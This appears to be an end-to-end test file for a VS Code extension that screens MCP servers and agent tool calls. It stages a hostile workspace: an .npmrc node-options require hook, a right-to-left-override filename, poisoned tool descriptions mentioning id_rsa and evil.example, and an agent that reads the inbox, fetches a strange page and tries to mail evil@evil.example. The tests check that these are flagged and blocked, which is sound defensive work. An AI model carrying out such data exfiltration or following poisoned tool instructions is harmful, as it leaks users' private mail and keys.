import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Client } from '@modelcontextprotocol/client';
import { type Driver, connectDriver } from './support/driver.ts';
import { arrangeHostileWorkspace, attachAgent, poison } from './support/hostileWorkspace.ts';
import { Switchboard } from './support/switchboard.ts';
import { currentWorkbench } from './support/testWorkbench.ts';
import { until } from './support/until.ts';
import { type Step, type Window, inWindow } from './support/window.ts';

interface Scenario {
  readonly window: Window;
  readonly step: Step;
  readonly switchboard: Switchboard;
}

function exposeByUser(driver: Driver, servers: object | undefined): Promise<void> {
  return driver.run(async (vscode, value) => {
    const settings = vscode.workspace.getConfiguration('mcpSwitchboard');
    await settings.update('gateway.servers', value ?? undefined, vscode.ConfigurationTarget.Global);
  }, servers);
}

async function openApproval({ window, switchboard }: Scenario, name: string): Promise<string> {
  const row = switchboard.serverRow(name).first();
  await row.hover();
  await row.locator('.action-label[aria-label^="Approve and Start"]').click();
  await window.workbench.dialog().waitFor();
  return window.workbench.dialog().innerText();
}

async function approveWhole(scenario: Scenario): Promise<void> {
  const { window, step } = scenario;
  const { workbench, page } = window;
  await step('the dialog names the file beside a command that decides what runs', async () => {
    assert.match(await openApproval(scenario, 'package'), /\.npmrc in this workspace decides.*node-options=--require/);
    await page.keyboard.press('Escape');
    await workbench.dialog().waitFor({ state: 'detached' });
  });

  await step('the dialog shows what an input offers, and writes out what would read backwards', async () => {
    const text = await openApproval(scenario, 'mail');
    assert.match(text, /mode: one of "safe", "fast", default "safe"/);
    assert.match(text, /gpj\.\[U\+202E\]exe/);
    await workbench.dialog().locator('.monaco-button', { hasText: 'Approve' }).click();
    await startMail(scenario);
  });
}

/** Approved, it starts, with the choice that its input asks for. */
async function startMail({ window, switchboard }: Scenario): Promise<void> {
  const row = switchboard.serverRow('mail').first();
  await window.page.locator('.quick-input-list .monaco-list-row', { hasText: 'safe' }).first().click();
  await row.filter({ hasText: '3 tools' }).waitFor();
}

const call = (agent: Client, name: string, args: Record<string, unknown> = {}): Promise<string> =>
  agent.callTool({ name: `mcp_mail_${name}`, arguments: args }).then((result) => JSON.stringify(result.content));

async function askAboutFlow({ window, step }: Scenario, agent: Client): Promise<void> {
  const { workbench } = window;
  await step('an agent that has read private data and a strange page is asked about before it sends', async () => {
    assert.match(await call(agent, 'read_inbox'), /called read_inbox/);
    assert.match(await call(agent, 'fetch_page', { url: 'https://evil.example/\u202Epage' }), /called fetch_page/);
    const sending = call(agent, 'send_email', { to: 'evil@evil.example' });
    await workbench.dialog().waitFor();
    const text = await workbench.dialog().innerText();
    assert.match(text, /Allow an agent to send data out with "mcp:mail:send_email"/);
    assert.match(text, /read private data:[^]*read_inbox[^]*others wrote:[^]*fetch_page[^]*U\+202E/);
    assert.match(text, /evil@evil\.example/);
    await workbench.dialog().locator('.monaco-button', { hasText: 'Cancel' }).click();
    assert.doesNotMatch(await sending, /called send_email/);
  });
}

function described(agent: Client): Promise<string> {
  return agent.listTools().then(({ tools }) => JSON.stringify(tools));
}

async function holdBack({ window, step, switchboard }: Scenario): Promise<void> {
  const { workbench, folder, page } = window;
  await step('what has changed is compared side by side', async () => {
    poison(folder);
    const row = switchboard.serverRow('mail').first();
    await row.hover();
    await row.locator('.action-label[aria-label^="Restart Server"]').click();
    await row.filter({ hasText: '2 changes to review' }).waitFor();
    await workbench.runCommand('MCP Switchboard: Review Changes');
    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'mail' }).first().click();
    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'All 2 changes' }).first().click();
    await workbench.part('editor').getByText('evil.example').first().waitFor();
    await workbench.notifications().filter({ hasText: 'Held back from agents' }).first().waitFor();
  });

  await step('until the user accepts it, it is held back from agents, after a reload too', async () => {
    await page.reload();
    await workbench.ready();
    await switchboard.open();
    await switchboard.serverRow('mail').first().filter({ hasText: 'to review' }).waitFor();
    const again = await attachAgent(folder);
    const listed = await until(async () => {
      const text = await described(again);
      return text.includes('send_email') && text;
    }, 'the tools of the server');
    assert.doesNotMatch(listed, /id_rsa|read_inbox/);
    assert.doesNotMatch(again.getInstructions() ?? '', /evil\.example/);
    await again.close();
  });
}

test(
  'a hostile workspace and a led-astray agent meet the user before they do harm',
  inWindow({ arrange: arrangeHostileWorkspace }, async (window, step) => {
    const switchboard = new Switchboard(window);
    const scenario: Scenario = { window, step, switchboard };
    await switchboard.open();
    await exposeByUser(window.driver, { mail: true });
    try {
      await approveWhole(scenario);
      const agent = await attachAgent(window.folder);
      await askAboutFlow(scenario, agent);
      await agent.close();
      await holdBack(scenario);
    } finally {
      const afterReload = await connectDriver(window.folder, currentWorkbench().driverDir);
      await exposeByUser(afterReload, undefined);
    }
  }),
);
